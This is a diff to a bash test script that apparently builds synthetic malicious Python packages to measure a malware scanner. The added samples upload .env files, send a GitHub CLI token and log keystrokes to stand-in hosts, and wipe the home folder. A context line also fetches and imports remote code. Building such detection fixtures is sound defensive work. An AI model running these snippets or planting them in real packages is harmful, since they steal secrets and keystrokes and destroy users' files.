@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 58 small synthetic packages, each using one malware technique of
+# Generalisation probe: 62 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -243,6 +243,35 @@ d = tempfile.mkdtemp()
 urllib.request.urlretrieve('http://203.0.113.77/u.py', os.path.join(d, 'updater.py'))
 sys.path.insert(0, d)
 import updater
+EOF
+# Session 9: project .env files hunted and uploaded; a CLI's stored token sent; a
+# keylogger that uploads; sabotage that erases the home folder (psslib-style, in a function).
+mk dotenvhunt <<'EOF'
+import os, glob, requests
+for p in glob.glob(os.path.expanduser('~/**/.env'), recursive=True):
+    requests.post('https://api.example-metrics.com/u', files={'f': open(p, 'rb')})
+EOF
+mk ghtoken <<'EOF'
+import subprocess, requests
+t = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()
+requests.post('https://198.51.100.3/t', data=t)
+EOF
+mk keylog <<'EOF'
+from pynput import keyboard
+import requests
+buf = []
+def on_press(k):
+    buf.append(str(k))
+    if len(buf) > 100:
+        requests.post('https://198.51.100.3/k', data=''.join(buf)); buf.clear()
+keyboard.Listener(on_press=on_press).start()
+EOF
+mk homewipe <<'EOF'
+import os, shutil
+def verify(password):
+    if password != 'expected':
+        shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
+    return True
 EOF
 # Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
 # backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
